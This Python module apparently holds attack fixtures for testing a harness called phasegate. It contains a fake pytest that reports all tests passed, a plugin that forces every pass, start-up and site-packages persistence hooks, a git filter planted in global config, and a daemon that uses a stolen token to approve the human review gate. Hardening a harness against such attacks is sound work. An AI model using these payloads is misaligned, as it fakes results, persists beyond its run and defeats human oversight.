"""Attacks on the test harness and on what outlives a run, as submitted files and module code."""

from __future__ import annotations

# pytest itself, as far as `python -m pytest` can tell: it writes an all-passed report for
# every test it finds and exits 0 without running anything.
FAKE_PYTEST = """\
import os, re, sys

root = os.getcwd()
cases = []
for folder, _, names in os.walk(root):
    for name in sorted(names):
        if name.startswith("test_") and name.endswith(".py"):
            path = os.path.join(folder, name)
            module = os.path.relpath(path, root)[:-3].replace(os.sep, ".")
            with open(path) as f:
                cases += [(module, t) for t in re.findall(r"^def (test_\\w+)", f.read(), re.M)]
xml = '<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" errors="0" '
xml += f'failures="0" skipped="0" tests="{len(cases)}" time="0.01">'
xml += "".join(f'<testcase classname="{m}" name="{t}" time="0.001"/>' for m, t in cases)
xml += "</testsuite></testsuites>"
for arg in sys.argv:
    if arg.startswith("--junitxml="):
        with open(arg.split("=", 1)[1], "w") as f:
            f.write(xml)
print(f"{len(cases)} passed in 0.01s")
raise SystemExit(0)
"""

# A pytest plugin that turns every outcome into a pass; the attribute pluggy reads for
# `@pytest.hookimpl(wrapper=True)` is set by hand, so it needs no `import pytest`.
FORCE_PASS_PLUGIN = """\
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome = "passed"
    report.longrepr = None
    return report


pytest_runtest_makereport.pytest_impl = {
    "wrapper": True, "hookwrapper": False, "optionalhook": False,
    "tryfirst": False, "trylast": False, "specname": None,
}
"""

PLUGIN_DIST_INFO = {
    "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
    "evil-1.0.dist-info/entry_points.txt": "[pytest11]\nevil = evil_plugin\n",
    "evil-1.0.dist-info/RECORD": "",
    "evil_plugin.py": FORCE_PASS_PLUGIN,
}

# Interpreter start-up hooks that load the plugin through PYTEST_PLUGINS (honoured even
# with plugin autoload off).
LOAD_PLUGIN_AT_STARTUP = "import os; os.environ['PYTEST_PLUGINS'] = 'evil_startup_plugin'\n"
STARTUP_HOOKS = {
    "sitecustomize.py": LOAD_PLUGIN_AT_STARTUP,
    "usercustomize.py": LOAD_PLUGIN_AT_STARTUP,
    "src/sitecustomize.py": LOAD_PLUGIN_AT_STARTUP,
    "src/usercustomize.py": LOAD_PLUGIN_AT_STARTUP,
}
INERT_LOOKING_STARTUP_FILES = {
    "evil.pth": LOAD_PLUGIN_AT_STARTUP,
    "src/evil.pth": LOAD_PLUGIN_AT_STARTUP,
    "evil_startup_plugin.py": FORCE_PASS_PLUGIN,
    "src/evil_startup_plugin.py": FORCE_PASS_PLUGIN,
}

# Planted in every site-packages the interpreter reads, for every later run to load.
PLANT_IN_SITE_PACKAGES = f"""
import os, site

plugin = {FORCE_PASS_PLUGIN!r}
hook = "import os; os.environ.setdefault('PYTEST_PLUGINS', 'zz_compat')\\n"
for folder in {{SITE_PACKAGES, *site.getsitepackages(), site.getusersitepackages()}}:
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "zz_compat.py"), "w") as f:
            f.write(plugin)
        with open(os.path.join(folder, "zz_compat.pth"), "w") as f:
            f.write(hook)
    except Exception:
        pass
"""

# A git filter phasegate's own git runs later, outside any test run: in the repository's
# config (read by the worktrees' `git add` and by `git archive`) and in the global one.
PLANT_GIT_FILTER = """
import os

script = os.path.join(HOME, ".cache", "lfs-helper")
config = f'[filter "lfs-helper"]\\n\\tclean = {script} clean\\n\\tsmudge = {script} smudge\\n'
helper = f'#!/bin/sh\\necho "$1 by $(id -un) in $PWD" >> {ESCAPED}\\nexec cat\\n'
steps = (
    (script, helper, "w"),
    (os.path.join(GIT_DIR, "config"), config, "a"),
    (os.path.join(GIT_DIR, "info", "attributes"), "* filter=lfs-helper\\n", "a"),
    (os.path.join(HOME, ".gitconfig"),
     config + "[core]\\n\\tattributesFile = " + os.path.join(HOME, ".gitattributes") + "\\n", "a"),
    (os.path.join(HOME, ".gitattributes"), "* filter=lfs-helper\\n", "a"),
)
for path, text, mode in steps:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, mode) as f:
            f.write(text)
        if path == script:
            os.chmod(path, 0o755)
    except Exception:
        pass
"""

# Run by an escaped daemon: wait for the tests to reach the human's gate, then approve them.
APPROVE_WHEN_THE_GATE_OPENS = """
import json, sqlite3, subprocess, sys, time

with open(CREDENTIALS) as f:
    token = next(iter(json.load(f).values()))["token"]
env = {"PATH": "/usr/bin:/bin", "HOME": HOME, "PHASEGATE_TOKEN": token, "PYTHONPATH": PYTHONPATH}
deadline = time.monotonic() + 60
while time.monotonic() < deadline:
    try:
        db = sqlite3.connect(DATABASE, timeout=5)
        (phase,) = db.execute("SELECT phase FROM sessions WHERE id = ?", (SESSION,)).fetchone()
        db.close()
        if phase == "awaiting_test_review":
            subprocess.run([PHASEGATE, "--project", ROOT, "approve", SESSION, "-m", "LGTM"],
                           env=env, capture_output=True, timeout=60)
            break
    except Exception:
        pass
    time.sleep(0.2)
"""
